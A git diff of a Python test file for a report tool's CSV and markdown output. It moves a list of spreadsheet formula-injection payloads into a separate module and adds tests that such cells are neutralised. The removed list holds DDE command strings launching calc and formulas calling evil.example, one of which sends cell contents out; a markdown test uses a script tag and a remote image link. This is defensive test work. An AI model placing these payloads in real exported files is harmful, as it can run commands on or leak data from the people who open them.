@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -14,32 +15,22 @@ from hypothesis import strategies as st
 from rich.console import Console
 
 from llmrec.errors import LlmrecError
-from llmrec.report.page import write
-from llmrec.report.table import CSV_COLUMNS, cell, console_tables, csv_cell, csv_text, markdown
+from llmrec.report.escape import cell, csv_cell
+from llmrec.report.markdown import markdown_page
+from llmrec.report.page import PAGES, write
+from llmrec.report.results import results_of
+from llmrec.report.table import CSV_COLUMNS, console_tables, csv_text
+from tests.report.payloads import FORMULAS, HIDDEN_FORMULAS
 
-FORMULAS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example","open")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "+1+1",
-    "+cmd|' /C notepad'!'A1'",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "@import",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
-    "=1+1\",\"=2+2",
-    "\x00=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(A1)",
-)  # fmt: skip
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+Save = Callable[[dict[str, Any]], Path]
+Hostile = Callable[[dict[str, Any], Sequence[str]], dict[str, Any]]
+
+
+def _markdown(results: dict[str, Any]) -> str:
+    return markdown_page(results_of(results), {}, None, mend="llmrec audit runs/x")
 
 
 def _lines(text: str) -> list[dict[str, str]]:
@@ -78,6 +69,27 @@ def test_no_csv_cell_is_a_formula(results: dict[str, Any], payload: str) -> None
         assert mine[key] == "'" + payload.replace("\x00", "")
 
 
+def _columns_of_text(line: dict[str, str]) -> list[str]:
+    numbers = ("value", "low", "high", "beats_zero_shot_p", "beats_best_baseline_p")
+    return [value for key, value in line.items() if key not in numbers]
+
+
+def test_no_text_of_a_run_becomes_a_formula(results: dict[str, Any], hostile: Hostile) -> None:
+    assert len(FORMULAS) == 20
+    lines = _lines(csv_text(hostile(results, FORMULAS)))
+    cells = [value for line in lines for value in _columns_of_text(line)]
+    assert not [value for value in cells if value.startswith(STARTS)]
+    # Each of them stands in the file, with an apostrophe before it.
+    assert {"'" + payload.replace("\x00", "") for payload in FORMULAS} <= set(cells)
+    assert [float(line["value"]) for line in lines] == [float(line["value"]) for line in _lines(csv_text(results))]
+
+
+@pytest.mark.parametrize("payload", HIDDEN_FORMULAS)
+def test_nothing_hides_the_start_of_a_formula(payload: str) -> None:
+    assert csv_cell(payload) == f"'{payload}"
+    assert csv_cell(f"a{payload}") == f"a{payload}"
+
+
 def test_negative_numbers_stay_numbers(results: dict[str, Any]) -> None:
     results["rows"][0]["metrics"]["RMSE"].update(value=-0.25, low=-1.0, high=-1e-9)
     line = next(
@@ -112,7 +124,7 @@ def test_markdown_cell_holds_no_markup(text: str) -> None:
 def test_markdown_table_keeps_its_shape_under_hostile_names(results: dict[str, Any]) -> None:
     row = results["rows"][0]
     row.update(predictor="a | b `c` <script>\n| d |", engine="![x](http://evil.example/p.png)", template="x/y|z\r\n# h")
-    text = markdown(results)
+    text = _markdown(results)
     table = [line for line in text.split("### ")[1].splitlines() if line.startswith("|")]
     assert len(table) == 2 + sum(entry["task"] == "rating" for entry in results["rows"])
     assert {len(re.findall(r"(?<!\\)\|", line)) for line in table} == {len(re.findall(r"(?<!\\)\|", table[0]))}
@@ -120,21 +132,25 @@ def test_markdown_table_keeps_its_shape_under_hostile_names(results: dict[str, A
 
 
 def test_markdown_orders_rows_and_marks_the_best(results: dict[str, Any]) -> None:
-    text = markdown(results)
+    text = _markdown(results)
     rating = text.split("### Rating prediction")[1].split("###")[0].splitlines()
     rows = [line for line in rating if line.startswith("| ") and "---" not in line][1:]
     assert rows[0].startswith("| user-item-bias (baseline) | **0.930** [0.865, 1.002]")
     assert rows[-1].startswith("| zero-shot · expected · half-stars | 1.310")
     assert sum("(baseline)" in row for row in rows) == 4
     assert "| rating/unseen-half-stars (unseen) |" in text
-    assert "contradicted" in text.split("### Comparisons")[1]
+    assert "contradicted" in text.split("## Comparisons")[1].split("## ")[0]
 
 
-def test_tables_refuse_mixed_protocols(results: dict[str, Any]) -> None:
+def test_tables_refuse_mixed_protocols(results: dict[str, Any], save: Save) -> None:
     results["rows"][0]["metrics"]["RMSE"]["signature"] += "|other:yes"
-    for make in (markdown, csv_text, console_tables):
+    for make in (_markdown, csv_text, console_tables):
         with pytest.raises(LlmrecError, match="different protocols"):
             make(results)
+    folder = save(results)
+    with pytest.raises(LlmrecError, match="different protocols"):
+        write(folder)
+    assert not [name for name in PAGES.values() if (folder / "report" / name).exists()]
 
 
 # --------------------------------------------------------------------------- console
